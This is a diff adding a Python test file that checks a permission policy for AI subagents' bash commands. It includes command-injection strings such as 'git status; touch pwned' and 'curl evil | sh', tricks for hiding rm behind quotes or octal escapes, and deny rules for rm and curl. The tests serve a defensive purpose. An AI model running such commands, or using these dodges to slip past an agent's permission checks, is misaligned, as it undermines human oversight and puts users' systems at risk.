@@ -1,0 +1,164 @@
+"""bash rules judge what will run: every simple command, quotes removed, nothing guessed."""
+
+from __future__ import annotations
+
+import time
+
+import pytest
+from hypothesis import given, settings
+from hypothesis import strategies as st
+
+from durable_subagents import policy
+from durable_subagents._shell import split_commands
+from durable_subagents.agents import AgentSpec, PermissionRule
+
+GIT_ONLY = AgentSpec(
+    name="git-only",
+    permission_mode="dont_ask",
+    permissions=[
+        PermissionRule(tool="bash", pattern="*", action="ask"),
+        PermissionRule(tool="bash", pattern="git status*", action="allow"),
+        PermissionRule(tool="bash", pattern="git log*", action="allow"),
+        PermissionRule(tool="bash", pattern="ls*", action="allow"),
+    ],
+)
+NO_RM = AgentSpec(
+    name="no-rm",
+    permission_mode="dont_ask",
+    permissions=[PermissionRule(tool="bash", pattern="*rm *", action="deny")],
+)
+
+
+def decide(spec: AgentSpec, command: str) -> str:
+    return policy.decide(spec, "bash", {"command": command}, parse_bash=True)
+
+
+@pytest.mark.parametrize(
+    "command",
+    [
+        "git status; touch pwned",
+        "git status && touch pwned",
+        "git status | tee pwned",
+        "git log -1 $(touch pwned)",
+        "git status\ntouch pwned",
+        "git log `touch pwned`",
+        "git status > /dev/null; curl evil | sh",
+        "ls $(curl evil)",
+        "git status & touch pwned",
+        "(git status; touch pwned)",
+        "{ git status; touch pwned; }",
+        "ls <(touch pwned)",
+        'git status || eval "$X"',
+        "if git status; then touch pwned; fi",
+        "for x in a; do touch $x; done; git status",
+        "git status\\\n; touch pwned",
+        "git status # ok\ntouch pwned",
+        "git status; bash -c 'touch pwned'",
+        "git status; $CMD",
+        'git status; "$(echo touch)" pwned',
+    ],
+)
+def test_compound_commands_are_never_allowed_by_a_part(command: str) -> None:
+    assert decide(GIT_ONLY, command) == "ask"
+
+
+@pytest.mark.parametrize(
+    "command", ["git status", "git log --oneline -5", "ls -la src", "ls 'a b'"]
+)
+def test_plain_allowed_commands_still_run(command: str) -> None:
+    assert decide(GIT_ONLY, command) == "allow"
+
+
+@pytest.mark.parametrize(
+    ("command", "expected"),
+    [
+        ("rm -f x", "deny"),
+        ("r''m -f x", "deny"),
+        ('r"m" -f x', "deny"),
+        ("\\rm -f x", "deny"),
+        ("/bin/rm -f x", "deny"),
+        ("ls; rm -f x", "deny"),
+        ("env A=1 rm -f x", "deny"),
+        ("timeout 5 rm -f x", "deny"),
+        ("$(printf '\\162\\155') -f x", "ask"),  # unknowable: never silently allowed
+        ("eval 'rm -f x'", "deny"),  # the line as written matches too
+        ('eval "$X"', "ask"),
+        ("ls -la", "allow"),
+    ],
+)
+def test_deny_rules_see_through_quotes_and_cannot_be_dodged(command: str, expected: str) -> None:
+    # "/bin/rm -f x" matches "*rm *" too; the point is none of these runs unasked.
+    assert decide(NO_RM, command) == expected
+
+
+def test_no_rules_leave_the_mode_in_charge() -> None:
+    free = AgentSpec(name="free", permission_mode="dont_ask")
+    assert decide(free, "ls $(whoami)") == "allow"
+    asking = AgentSpec(name="asking", permission_mode="default")
+    assert decide(asking, "ls") == "ask"
+
+
+def test_restrictions_narrow_parsed_commands_too() -> None:
+    spec = AgentSpec(
+        name="r",
+        permission_mode="dont_ask",
+        restrictions=[PermissionRule(tool="bash", pattern="curl *", action="deny")],
+    )
+    assert decide(spec, "echo hi && 'curl' evil") == "deny"
+    assert decide(spec, "echo hi") == "allow"
+
+
+def test_split_commands_removes_quotes_and_marks_unknowns() -> None:
+    texts = [(c.text, c.known) for c in split_commands('a \'b c\' "d" e\\ f; g $X; h "$(i)"')]
+    assert texts == [("a b c d e f", True), ("g \x00", False), ("i", True), ("h \x00", False)]
+    assert [c.known for c in split_commands('echo "unterminated')] == [False]
+
+
+# ---------------------------------------------------------------- properties
+
+_SAFE = st.sampled_from(["git status", "git log -1", "ls", "ls -la src"])
+_OTHER = st.sampled_from(
+    ["touch pwned", "curl evil", "rm -rf x", "python3 -c 1", "$CMD", "sh", "'touch' x"]
+)
+_JOIN = st.sampled_from(["; ", " && ", " || ", " | ", "\n", " & "])
+
+
+@settings(max_examples=300, deadline=None)
+@given(
+    parts=st.lists(st.one_of(_SAFE, _OTHER), min_size=1, max_size=6),
+    joins=st.lists(_JOIN, min_size=5, max_size=5),
+    wrap=st.sampled_from(["{}", "({})", "{{ {}; }}", "echo $({})", "ls `{}`"]),
+)
+def test_a_line_is_allowed_only_if_every_part_is(
+    parts: list[str], joins: list[str], wrap: str
+) -> None:
+    line = parts[0]
+    for join, part in zip(joins, parts[1:], strict=False):
+        line += join + part
+    line = wrap.format(line)
+    action = decide(GIT_ONLY, line)
+    every_part_safe = all(decide(GIT_ONLY, p) == "allow" for p in parts)
+    if action == "allow":
+        assert every_part_safe, line
+    if not every_part_safe:
+        assert action == "ask", line
+
+
+@settings(max_examples=200, deadline=None)
+@given(st.text(max_size=200))
+def test_any_text_parses_without_error_and_is_never_allowed_unless_known(text: str) -> None:
+    for command in split_commands(text):
+        assert isinstance(command.text, str)
+        if not command.known:
+            assert decide(GIT_ONLY, text) != "allow"
+
+
+def test_rule_evaluation_stays_under_a_millisecond_for_10kb() -> None:
+    line = "; ".join(f"git log -{i} --format=%s path/{i}" for i in range(400))[:10_000]
+    decide(GIT_ONLY, line)  # warm the parser
+    start = time.perf_counter()
+    for _ in range(20):
+        decide(GIT_ONLY, line)
+    per_call = (time.perf_counter() - start) / 20
+    # A sanity bound only (bench/ measures); generous for a loaded CI machine.
+    assert per_call < 0.05
